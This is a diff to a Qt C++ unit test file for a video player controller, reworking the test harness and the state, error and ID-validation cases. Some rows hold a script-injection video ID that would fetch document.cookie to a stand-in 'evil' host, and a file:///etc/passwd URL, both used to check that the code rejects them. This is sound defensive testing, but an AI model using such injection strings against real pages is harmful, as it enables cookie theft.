@@ -3,6 +3,7 @@
 
 #include <QJsonArray>
 #include <QJsonDocument>
+#include <QRegularExpression>
 #include <QSignalSpy>
 #include <QTest>
 #include <memory>
@@ -12,43 +13,34 @@ using namespace clipvane;
 namespace {
 
 // Records every script the controller sends.
-class FakePage : public PlayerPage
+struct FakePage : PlayerPage
 {
-public:
     explicit FakePage(QStringList &log)
-        : m_log(log)
+        : log(log)
     {}
-    void runScript(const QString &script) override { m_log << script; }
-
-private:
-    QStringList &m_log;
+    void runScript(const QString &script) override { log << script; }
+    QStringList &log;
 };
 
 // A time-out the test fires by hand.
-class FakeTimer : public OneShotTimer
+struct FakeTimer : OneShotTimer
 {
-public:
     void start(std::chrono::milliseconds interval, std::function<void()> fire) override
     {
         lastInterval = interval;
-        m_fire = std::move(fire);
-        m_active = true;
+        onFire = std::move(fire);
+        active = true;
     }
-    void stop() override { m_active = false; }
-    bool isActive() const override { return m_active; }
-    bool fire()
+    void stop() override { active = false; }
+    bool isActive() const override { return active; }
+    void fire()
     {
-        if (!m_active)
-            return false;
-        m_active = false;
-        m_fire();
-        return true;
+        if (std::exchange(active, false))
+            onFire();
     }
     std::chrono::milliseconds lastInterval{0};
-
-private:
-    std::function<void()> m_fire;
-    bool m_active = false;
+    std::function<void()> onFire;
+    bool active = false;
 };
 
 QJsonValue parsed(const QString &json)
@@ -60,9 +52,22 @@ QJsonValue parsed(const QString &json)
     return document.array().at(0);
 }
 
-// Drives one controller through a row's steps:
+// A row's text with video A and video B spelled out, as IDs and as script arguments.
+QString withIDs(const char *text)
+{
+    static const QList<QPair<QString, QString>> ids{{u"A"_qs, u"dQw4w9WgXcQ"_qs}, {u"B"_qs, u"9bZkp7q19f0"_qs}};
+    QString out = QString::fromUtf8(text);
+    for (const auto &[token, id] : ids) {
+        out.replace(u'(' + token + u')', u"(\""_qs + id + u"\")"_qs);
+        out.replace(QRegularExpression(u"\\b"_qs + token + u"\\b"_qs), id);
+    }
+    return out;
+}
+
+// Drives one controller through a row's steps, written as one text separated by ", ":
 //   attach        a new page (the earlier one stays alive)
 //   drop          the current page goes away
+//   ready         the page says it is ready
 //   msg JSON      the page posts JSON through the bridge
 //   load ID 0|1   load with autoplay off or on
 //   play, pause   the operations of the same names
@@ -75,9 +80,9 @@ struct Harness
     Bridge bridge{controller};
     std::vector<std::unique_ptr<FakePage>> pages;
 
-    void run(const QStringList &steps)
+    void run(const QString &steps)
     {
-        for (const QString &step : steps) {
+        for (const QString &step : steps.split(u", "_qs, Qt::SkipEmptyParts)) {
             const QString verb = step.section(u' ', 0, 0);
             const QString rest = step.section(u' ', 1);
             if (verb == u"attach") {
@@ -85,6 +90,8 @@ struct Harness
                 controller.attach(pages.back().get());
             } else if (verb == u"drop") {
                 pages.back().reset();
+            } else if (verb == u"ready") {
+                bridge.postMessage(parsed(uR"({"t":"ready"})"_qs));
             } else if (verb == u"msg") {
                 bridge.postMessage(parsed(rest));
             } else if (verb == u"load") {
@@ -102,8 +109,6 @@ struct Harness
     }
 };
 
-const QString kReady = QStringLiteral(R"(msg {"t":"ready"})");
-
 } // namespace
 
 class PlayerControllerTest : public QObject
@@ -113,123 +118,111 @@ class PlayerControllerTest : public QObject
 private Q_SLOTS:
     void steps_data()
     {
-        QTest::addColumn<QStringList>("steps");
-        QTest::addColumn<QStringList>("scripts");
+        QTest::addColumn<QString>("steps");
+        QTest::addColumn<QString>("scripts"); // every script sent, separated by " "
         QTest::addColumn<bool>("playing");
         QTest::addColumn<bool>("loading");
         QTest::addColumn<QString>("error"); // empty: none
         QTest::addColumn<QString>("pending");
 
-        const QString a = QStringLiteral("dQw4w9WgXcQ");
-        const QString b = QStringLiteral("9bZkp7q19f0");
-        const QString load = QStringLiteral("load ");
-        const auto row = [](const char *name, const QStringList &steps, const QStringList &scripts, bool playing,
-                            bool loading, const char *error, const QString &pending = {}) {
-            QTest::newRow(name) << steps << scripts << playing << loading << QString::fromLatin1(error) << pending;
+        const auto row = [](const char *name, const char *steps, const char *scripts, bool playing, bool loading,
+                            const char *error, const char *pending = "") {
+            QTest::newRow(name) << withIDs(steps) << withIDs(scripts) << playing << loading
+                                << QString::fromLatin1(error) << withIDs(pending);
         };
-        const auto cue = [](const QString &id) { return QStringLiteral("cueVideo(\"%1\")").arg(id); };
-        const auto loadScript = [](const QString &id) { return QStringLiteral("loadVideo(\"%1\")").arg(id); };
 
         // Waiting for the page.
-        row("no page: load waits", {load + a + u" 1"_qs}, {}, false, false, "", a);
-        row("attached, not ready: load waits", {u"attach"_qs, load + a + u" 0"_qs}, {}, false, false, "", a);
-        row("ready sends the pending cue", {u"attach"_qs, load + a + u" 0"_qs, kReady}, {cue(a)}, false, true, "");
-        row("ready sends the pending load", {u"attach"_qs, load + a + u" 1"_qs, kReady}, {loadScript(a)}, true, true,
-            "");
-        row("two loads before ready: only the second, with its own flag",
-            {u"attach"_qs, load + a + u" 1"_qs, load + b + u" 0"_qs, kReady}, {cue(b)}, false, true, "");
-        row("second ready with nothing pending sends nothing", {u"attach"_qs, kReady, load + a + u" 0"_qs, kReady},
-            {cue(a)}, false, true, "");
-        row("play before ready only changes the flag", {u"attach"_qs, u"play"_qs}, {}, true, false, "");
+        row("no page: load waits", "load A 1", "", false, false, "", "A");
+        row("attached, not ready: load waits", "attach, load A 0", "", false, false, "", "A");
+        row("ready sends the pending cue", "attach, load A 0, ready", "cueVideo(A)", false, true, "");
+        row("ready sends the pending load", "attach, load A 1, ready", "loadVideo(A)", true, true, "");
+        row("two loads before ready: only the second, with its own flag", "attach, load A 1, load B 0, ready",
+            "cueVideo(B)", false, true, "");
+        row("second ready with nothing pending sends nothing", "attach, ready, load A 0, ready", "cueVideo(A)", false,
+            true, "");
+        row("play before ready only changes the flag", "attach, play", "", true, false, "");
 
         // The same video again.
-        row("same video without autoplay does nothing",
-            {u"attach"_qs, kReady, load + a + u" 0"_qs, load + a + u" 0"_qs}, {cue(a)}, false, true, "");
-        row("same video with autoplay only plays", {u"attach"_qs, kReady, load + a + u" 0"_qs, load + a + u" 1"_qs},
-            {cue(a), u"play()"_qs}, true, true, "");
+        row("same video without autoplay does nothing", "attach, ready, load A 0, load A 0", "cueVideo(A)", false, true,
+            "");
+        row("same video with autoplay only plays", "attach, ready, load A 0, load A 1", "cueVideo(A) play()", true,
+            true, "");
 
-        // The state table.
-        const QStringList loaded{u"attach"_qs, kReady, load + a + u" 1"_qs};
-        const auto after = [&](const char *message) { return loaded + QStringList{QString::fromLatin1(message)}; };
-        row("state 1 plays, ends loading", after(R"(msg {"t":"state","s":1})"), {loadScript(a)}, true, false, "");
-        row("state 0 ends", after(R"(msg {"t":"state","s":0})"), {loadScript(a)}, false, false, "");
-        row("state 2 pauses", after(R"(msg {"t":"state","s":2})"), {loadScript(a)}, false, false, "");
-        row("state 5 cued", after(R"(msg {"t":"state","s":5})"), {loadScript(a)}, false, false, "");
-        row("state -1 ignored", after(R"(msg {"t":"state","s":-1})"), {loadScript(a)}, true, true, "");
-        row("state 3 ignored", after(R"(msg {"t":"state","s":3})"), {loadScript(a)}, true, true, "");
-        row("state 4 only ends loading", after(R"(msg {"t":"state","s":4})"), {loadScript(a)}, true, false, "");
-        row("state 1.0 is the integer 1", after(R"(msg {"t":"state","s":1.0})"), {loadScript(a)}, true, false, "");
-        row("state without a number is -1", after(R"(msg {"t":"state"})"), {loadScript(a)}, true, true, "");
-        row("state as text is -1", after(R"(msg {"t":"state","s":"1"})"), {loadScript(a)}, true, true, "");
-        row("state 1.5 is -1", after(R"(msg {"t":"state","s":1.5})"), {loadScript(a)}, true, true, "");
-        row("state beyond int is -1", after(R"(msg {"t":"state","s":1e300})"), {loadScript(a)}, true, true, "");
+        // The state table, after "attach, ready, load A 1".
+        const auto after = [&row](const char *name, const char *more, bool playing, bool loading,
+                                  const char *error = "") {
+            row(name, (QByteArray("attach, ready, load A 1, ") + more).constData(), "loadVideo(A)", playing, loading,
+                error);
+        };
+        after("state 1 plays, ends loading", R"(msg {"t":"state","s":1})", true, false);
+        after("state 0 ends", R"(msg {"t":"state","s":0})", false, false);
+        after("state 2 pauses", R"(msg {"t":"state","s":2})", false, false);
+        after("state 5 cued", R"(msg {"t":"state","s":5})", false, false);
+        after("state -1 ignored", R"(msg {"t":"state","s":-1})", true, true);
+        after("state 3 ignored", R"(msg {"t":"state","s":3})", true, true);
+        after("state 4 only ends loading", R"(msg {"t":"state","s":4})", true, false);
+        after("state 1.0 is the integer 1", R"(msg {"t":"state","s":1.0})", true, false);
+        after("state without a number is -1", R"(msg {"t":"state"})", true, true);
+        after("state as text is -1", R"(msg {"t":"state","s":"1"})", true, true);
+        after("state 1.5 is -1", R"(msg {"t":"state","s":1.5})", true, true);
+        after("state beyond int is -1", R"(msg {"t":"state","s":1e300})", true, true);
 
         // Errors.
-        row("error 150", after(R"(msg {"t":"error","c":150})"), {loadScript(a)}, false, false, "150");
-        row("error without code is -1", after(R"(msg {"t":"error"})"), {loadScript(a)}, false, false, "-1");
-        row("play keeps the error", after(R"(msg {"t":"error","c":101})") + QStringList{u"play"_qs},
-            {loadScript(a), u"play()"_qs}, true, false, "101");
-        row("same video keeps the error", after(R"(msg {"t":"error","c":101})") + QStringList{load + a + u" 0"_qs},
-            {loadScript(a)}, false, false, "101");
-        row("another video clears the error", after(R"(msg {"t":"error","c":101})") + QStringList{load + b + u" 0"_qs},
-            {loadScript(a), cue(b)}, false, true, "");
+        after("error 150", R"(msg {"t":"error","c":150})", false, false, "150");
+        after("error without code is -1", R"(msg {"t":"error"})", false, false, "-1");
+        row("play keeps the error", R"(attach, ready, load A 1, msg {"t":"error","c":101}, play)",
+            "loadVideo(A) play()", true, false, "101");
+        after("same video keeps the error", R"(msg {"t":"error","c":101}, load A 0)", false, false, "101");
+        row("another video clears the error", R"(attach, ready, load A 1, msg {"t":"error","c":101}, load B 0)",
+            "loadVideo(A) cueVideo(B)", false, true, "");
 
-        // Malformed messages.
-        row("text body", after(R"(msg "ready")"), {loadScript(a)}, true, true, "");
-        row("array body", after(R"(msg [{"t":"error"}])"), {loadScript(a)}, true, true, "");
-        row("empty object", after("msg {}"), {loadScript(a)}, true, true, "");
-        row("no type", after(R"(msg {"s":1})"), {loadScript(a)}, true, true, "");
-        row("type not text", after(R"(msg {"t":1,"s":1})"), {loadScript(a)}, true, true, "");
-        row("unknown type", after(R"(msg {"t":"volume","s":1})"), {loadScript(a)}, true, true, "");
-        row("null body", after("msg null"), {loadScript(a)}, true, true, "");
+        // Malformed messages change nothing.
+        after("text body", R"(msg "ready")", true, true);
+        after("array body", R"(msg [{"t":"error"}])", true, true);
+        after("null body", "msg null", true, true);
+        after("no type", R"(msg {"s":1})", true, true);
+        after("type not text", R"(msg {"t":1,"s":1})", true, true);
+        after("unknown type", R"(msg {"t":"volume","s":1})", true, true);
 
-        // Time-out.
-        row("time-out ends loading only", loaded + QStringList{u"timeout"_qs}, {loadScript(a)}, true, false, "");
+        after("time-out ends loading only", "timeout", true, false);
 
         // A new web view.
-        row("re-attach while playing loads again", loaded + QStringList{u"attach"_qs, kReady},
-            {loadScript(a), loadScript(a)}, true, true, "");
-        row("re-attach while paused cues again", loaded + QStringList{u"pause"_qs, u"attach"_qs, kReady},
-            {loadScript(a), u"pause()"_qs, cue(a)}, false, true, "");
-        row("the old page gets nothing after re-attach", loaded + QStringList{u"attach"_qs, u"play"_qs},
-            {loadScript(a)}, true, true, "", a);
-        row("page gone while ready: load waits", loaded + QStringList{u"drop"_qs, load + b + u" 0"_qs}, {loadScript(a)},
-            true, true, "", b);
-        row("page gone: pause only changes the flag", loaded + QStringList{u"drop"_qs, u"pause"_qs}, {loadScript(a)},
-            false, true, "");
+        row("re-attach while playing loads again", "attach, ready, load A 1, attach, ready",
+            "loadVideo(A) loadVideo(A)", true, true, "");
+        row("re-attach while paused cues again", "attach, ready, load A 1, pause, attach, ready",
+            "loadVideo(A) pause() cueVideo(A)", false, true, "");
+        row("the old page gets nothing after re-attach", "attach, ready, load A 1, attach, play", "loadVideo(A)", true,
+            true, "", "A");
+        row("page gone while ready: load waits", "attach, ready, load A 1, drop, load B 0", "loadVideo(A)", true, true,
+            "", "B");
+        row("page gone: pause only changes the flag", "attach, ready, load A 1, drop, pause", "loadVideo(A)", false,
+            true, "");
 
         // Hostile or unplayable IDs are never loaded nor kept pending.
-        const QString hostile = QStringLiteral("a');fetch('//evil/'+document.cookie);('");
-        row("hostile ID, ready", {u"attach"_qs, kReady, load + hostile + u" 1"_qs}, {}, false, false, "");
-        row("hostile ID before ready", {u"attach"_qs, load + hostile + u" 1"_qs, kReady}, {}, false, false, "");
-        row("x- record", {u"attach"_qs, kReady, u"load x-abcdef12 1"_qs}, {}, false, false, "");
-        row("quote inside an ID", {u"attach"_qs, kReady, u"load abc\"def 0"_qs}, {}, false, false, "");
+        row("hostile ID, ready", "attach, ready, load a');fetch('//evil/'+document.cookie);(' 1", "", false, false, "");
+        row("hostile ID before ready", "attach, load a');fetch('//evil/'+document.cookie);(' 1, ready", "", false,
+            false, "");
+        row("x- record", "attach, ready, load x-abcdef12 1", "", false, false, "");
+        row("quote inside an ID", "attach, ready, load abc\"def 0", "", false, false, "");
     }
 
     void steps()
     {
-        QFETCH(QStringList, steps);
-        QFETCH(QStringList, scripts);
-        QFETCH(bool, playing);
+        QFETCH(QString, steps);
+        QFETCH(QString, scripts);
         QFETCH(bool, loading);
         QFETCH(QString, error);
-        QFETCH(QString, pending);
 
         Harness h;
         h.run(steps);
-        QCOMPARE(h.scripts, scripts);
-        QCOMPARE(h.controller.isPlaying(), playing);
+        QCOMPARE(h.scripts.join(u' '), scripts);
+        QTEST(h.controller.isPlaying(), "playing");
         QCOMPARE(h.controller.isLoading(), loading);
         QCOMPARE(h.timer->isActive(), loading);
+        if (loading)
+            QCOMPARE(h.timer->lastInterval, std::chrono::milliseconds(PlayerController::kLoadingTimeout));
         QCOMPARE(h.controller.embedError(), error.isEmpty() ? std::optional<int>() : std::optional<int>(error.toInt()));
-        QCOMPARE(h.controller.pendingID().value_or(QString()), pending);
-    }
-
-    void loadingTimeoutIsTwentySeconds()
-    {
-        Harness h;
-        h.run({u"attach"_qs, kReady, u"load dQw4w9WgXcQ 0"_qs});
-        QCOMPARE(h.timer->lastInterval, std::chrono::milliseconds(20000));
+        QTEST(h.controller.pendingID().value_or(QString()), "pending");
     }
 
     void changeSignalsFollowTheValues()
@@ -238,7 +231,7 @@ private Q_SLOTS:
         QSignalSpy playing(&h.controller, &PlayerController::isPlayingChanged);
         QSignalSpy loading(&h.controller, &PlayerController::isLoadingChanged);
         QSignalSpy error(&h.controller, &PlayerController::embedErrorChanged);
-        h.run({u"attach"_qs, kReady, u"load dQw4w9WgXcQ 1"_qs, uR"(msg {"t":"error","c":2})"_qs});
+        h.run(uR"(attach, ready, load dQw4w9WgXcQ 1, msg {"t":"error","c":2})"_qs);
         QCOMPARE(playing.count(), 2); // on, then off by the error
         QCOMPARE(loading.count(), 2);
         QCOMPARE(error.count(), 1);
@@ -263,40 +256,34 @@ private Q_SLOTS:
         QTest::newRow("too short") << u"abcde"_qs << false;
         QTest::newRow("empty") << QString() << false;
         QTest::newRow("quote") << u"abc'def"_qs << false;
-        QTest::newRow("double quote") << u"abc\"def"_qs << false;
         QTest::newRow("backslash") << u"abc\\def"_qs << false;
         QTest::newRow("space") << u"abc def"_qs << false;
         QTest::newRow("line separator") << QString::fromUtf16(u"abcdef\u2028") << false;
-        QTest::newRow("script") << u"a');fetch('//evil/'+document.cookie);('"_qs << false;
         QTest::newRow("unpaired surrogate") << u"abcdef"_qs + QChar(0xD800) << false;
     }
 
     void playableIDs()
     {
         QFETCH(QString, id);
-        QFETCH(bool, playable);
-        QCOMPARE(PlayerController::isPlayableID(id), playable);
+        QTEST(PlayerController::isPlayableID(id), "playable");
     }
 
+    // The stored address when it is a web address, else the short link.
     void addresses_data()
     {
-        QTest::addColumn<QString>("id");
         QTest::addColumn<QString>("url");
         QTest::addColumn<QString>("expected");
-        QTest::newRow("stored link") << u"dQw4w9WgXcQ"_qs << u"https://www.youtube.com/watch?v=dQw4w9WgXcQ"_qs
-                                     << u"https://www.youtube.com/watch?v=dQw4w9WgXcQ"_qs;
-        QTest::newRow("empty: short link") << u"dQw4w9WgXcQ"_qs << QString() << u"https://youtu.be/dQw4w9WgXcQ"_qs;
-        QTest::newRow("not a web address: short link")
-            << u"dQw4w9WgXcQ"_qs << u"file:///etc/passwd"_qs << u"https://youtu.be/dQw4w9WgXcQ"_qs;
-        QTest::newRow("relative: short link") << u"dQw4w9WgXcQ"_qs << u"watch"_qs << u"https://youtu.be/dQw4w9WgXcQ"_qs;
+        const QString stored = u"https://www.youtube.com/watch?v=dQw4w9WgXcQ"_qs;
+        const QString shortLink = u"https://youtu.be/dQw4w9WgXcQ"_qs;
+        QTest::newRow("stored link") << stored << stored;
+        QTest::newRow("empty") << QString() << shortLink;
+        QTest::newRow("not a web address") << u"file:///etc/passwd"_qs << shortLink;
+        QTest::newRow("relative") << u"watch"_qs << shortLink;
     }
-
     void addresses()
     {
-        QFETCH(QString, id);
         QFETCH(QString, url);
-        QFETCH(QString, expected);
-        QCOMPARE(PlayerController::videoAddress(id, url).toString(), expected);
+        QTEST(PlayerController::videoAddress(u"dQw4w9WgXcQ"_qs, url).toString(), "expected");
     }
 
     void playerPageOnTheServiceOrigin()
